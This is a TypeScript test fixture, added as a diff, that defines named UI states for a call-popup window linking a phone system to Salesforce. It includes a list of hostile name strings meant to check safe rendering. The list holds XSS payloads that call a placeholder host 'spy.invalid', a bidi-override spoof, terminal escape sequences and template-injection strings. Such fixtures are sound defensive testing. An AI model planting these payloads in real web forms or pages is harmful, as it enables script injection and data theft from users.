@@ -1,0 +1,174 @@
+// The states of the window by name, for `?state=` in a plain browser.
+
+import type { LiveCard } from "./bindings";
+import { card, MemoryBackend, problem, type World } from "./memory-backend";
+import { ago, calm, candidate, fresh, openEnds, row } from "./worlds";
+
+const NOW = () => new Date().toISOString();
+const SECONDS = (n: number): string => ago(n / 60);
+
+/** What people who can call, or fill a web form, may put into a name. */
+export const HOSTILE = [
+  `<img src=x onerror="fetch('http://spy.invalid/a')">`,
+  `<script src="http://spy.invalid/b.js"></script>`,
+  `"><svg onload=fetch('http://spy.invalid/c')>`,
+  `javascript:location='http://spy.invalid/d'`,
+  `<style>@import url(http://spy.invalid/e.css)</style><link rel=stylesheet href=http://spy.invalid/f>`,
+  "Anna\u202egnp.exe\u202c \u2066Meyer\u2069",
+  "An\u200bna\u0000\u0007 \u001b[31mMe\r\nyer\u001b]0;title\u0007",
+  `A${"\u0301\u0302\u0303".repeat(3_000)}nna`,
+  "{{constructor.constructor('alert(1)')()}} ${7*7} {@html '<b>x</b>'}",
+  `${"W".repeat(300)}`,
+  "مرحبا <b>بك</b> في الشركة",
+];
+
+const inTalk = (given: Partial<LiveCard>): LiveCard =>
+  card({ state: "talking", started_at: SECONDS(58), answered_at: SECONDS(42), queue: "Sales", candidates: [candidate({})], chosen: candidate({}).id, why: "matched Contact.Phone exactly (local index)", ...given });
+
+const three = [
+  candidate({}),
+  candidate({ id: "0035g00000EXAM5AAA", name: "Anton Meyer", company: "Meyer & Söhne KG", mine: false }),
+  candidate({ id: "0015g00000EXAM6AAA", object: "Account", name: "ACME GmbH", company: null, mine: false }),
+];
+
+const states: Record<string, (world: World) => World | void> = {
+  calm: () => {},
+  "first-run": fresh,
+  "first-run-certificate": () => ({ ...fresh(), certificate: "3f9a0c5d".repeat(8) }),
+  "first-run-salesforce": () => partly(),
+  "first-run-waiting": () => ({
+    ...partly(),
+    signIn: { state: "waiting", url: "https://login.salesforce.com/services/oauth2/authorize?client_id=x", callbacks: fresh().settings.callbacks },
+  }),
+  "first-run-failed": () => ({
+    ...partly(),
+    signIn: { state: "failed", problem: problem("salesforce.not_approved", "user is not admin approved to access this app", "Ask your Salesforce administrator.") },
+  }),
+  empty: (world) => {
+    world.calls = [];
+  },
+  demo: (world) => {
+    world.calls = [];
+    world.settings.demo = true;
+    world.status.pbx.address = "http://127.0.0.1:40111";
+    world.status.secrets = "session";
+  },
+  "ringing-one": (world) => {
+    world.live = [inTalk({ state: "ringing", started_at: SECONDS(3), answered_at: null })];
+  },
+  "ringing-several": (world) => {
+    world.live = [card({ started_at: SECONDS(4), candidates: three })];
+  },
+  "ringing-none": (world) => {
+    world.live = [card({ started_at: SECONDS(5), number: "+4915112345678", number_shown: "+49 1511 2345678", queue: "Sales" })];
+  },
+  withheld: (world) => {
+    world.live = [card({ started_at: SECONDS(2), number: null, number_shown: null })];
+  },
+  searching: (world) => {
+    world.live = [card({ started_at: NOW(), searching: true })];
+  },
+  slow: (world) => {
+    world.live = [card({ started_at: SECONDS(9), searching: true })];
+  },
+  "search-failed": (world) => {
+    world.live = [card({ started_at: SECONDS(6), search_failed: true })];
+    world.status.salesforce.state = "unreachable";
+    world.status.integration = "attention";
+  },
+  dialling: (world) => {
+    world.live = [inTalk({ state: "dialling", direction: "outbound", started_at: SECONDS(6), answered_at: null, queue: null })];
+  },
+  talking: (world) => {
+    world.live = [inTalk({})];
+  },
+  "talking-several": (world) => {
+    world.live = [inTalk({ candidates: three, why: "chosen for this number before" })];
+  },
+  ended: (world) => {
+    world.live = [inTalk({ state: "ended", can_hang_up: false })];
+  },
+  elsewhere: (world) => {
+    world.live = [inTalk({ state: "elsewhere", answered_at: null, can_hang_up: false })];
+  },
+  internal: (world) => {
+    world.live = [card({ direction: "internal", number: "4102", number_shown: "4102", started_at: SECONDS(3) })];
+  },
+  "two-calls": (world) => {
+    world.live = [card({ id: "b", started_at: SECONDS(3), candidates: three }), inTalk({ id: "a" })];
+  },
+  todo: (world) => {
+    world.calls = openEnds();
+    world.status.journal = { waiting: 2, stuck: 3, logged_today: 9 };
+  },
+  problems: (world) => {
+    world.calls = openEnds();
+    world.status.integration = "attention";
+    world.status.secrets = "session";
+    world.status.journal = { waiting: 2, stuck: 3, logged_today: 9 };
+    world.status.pbx.state = "signed_out";
+    world.status.pbx.events = "down";
+    world.status.pbx.problem = problem("pbx.credentials_refused", "The PBX refused the client id or the secret.", "Connect again.");
+    world.status.salesforce.state = "unreachable";
+    world.status.salesforce.problem = problem("salesforce.unreachable", "Salesforce could not be reached.", "Check the network.");
+    world.status.binding = { state: "conflict", extension: null, source: null, problem: problem("binding.conflict", "4101 and 4103 could both be yours.", "Choose one.") };
+  },
+  disabled: (world) => {
+    world.status.integration = "disabled";
+    world.status.journal.waiting = 3;
+  },
+  paused: (world) => {
+    world.settings.pops_paused_until = ago(-47);
+  },
+  locked: (world) => {
+    world.settings.locked = ["pbx.address", "pbx.client_id", "salesforce.login", "binding.extension", "integration.enabled", "app.language"];
+    world.status.binding.source = "policy";
+  },
+  connecting: (world) => {
+    world.status.integration = "connecting";
+    world.status.pbx.state = "connecting";
+    world.status.salesforce.state = "connecting";
+  },
+  hostile: (world) => {
+    const [first = ""] = HOSTILE;
+    world.calls = HOSTILE.map((name, at) =>
+      row({ started_at: ago(at + 1), record: { object: "Contact", id: `0035g00000HOST${at}AAA`, name }, queue: name, journal: at % 2 === 0 ? {} : { state: "stuck", task_id: null, reason: name } }, at % 2 === 0 ? null : "salesforce.rejected"),
+    );
+    world.live = [
+      card({ id: "a", candidates: HOSTILE.map((name, at) => candidate({ id: `0035g00000HOST${at}AAA`, name, company: name, field: name })), queue: first }),
+      inTalk({ id: "b", candidates: [candidate({ name: HOSTILE[1] ?? "", company: HOSTILE[2] ?? "", field: first })], why: first, queue: HOSTILE[4] ?? "" }),
+      card({ id: "c", number: HOSTILE[3] ?? "", number_shown: HOSTILE[3] ?? "" }),
+    ];
+    world.status.salesforce.user = first;
+    world.status.salesforce.username = HOSTILE[5] ?? "";
+    world.status.salesforce.problem = problem("x.unknown", first, HOSTILE[2] ?? "");
+    world.status.pbx.serial = HOSTILE[2] ?? "";
+    world.extensions = HOSTILE.map((name, at) => ({ number: `41${at}`, name, online: true }));
+  },
+};
+
+/** The names of the states. */
+export const stateNames = Object.keys(states);
+
+/** An engine in a named state; `gone` and `notice` happen after the start. */
+export function scripted(name: string): MemoryBackend {
+  const world = calm();
+  const backend = new MemoryBackend(states[name]?.(world) ?? world);
+  if (name === "gone") setTimeout(() => backend.goes(), 50);
+  if (name === "notice") {
+    setTimeout(() => backend.say({ event: "notice", value: problem("dial.never_rang", "Your phone never rang. No phone seems to be signed in on extension 4101.", "Sign in on your phone or Linkus, then call again.") }), 50);
+  }
+  if (name === "hostile") {
+    setTimeout(() => backend.say({ event: "notice", value: problem(HOSTILE[0] ?? "", HOSTILE[0] ?? "", HOSTILE[2] ?? "") }), 50);
+  }
+  return backend;
+}
+
+function partly(): World {
+  const world = fresh();
+  const well = calm();
+  world.status.pbx = well.status.pbx;
+  world.settings.pbx_address = well.settings.pbx_address;
+  world.settings.pbx_client_id = well.settings.pbx_client_id;
+  return world;
+}
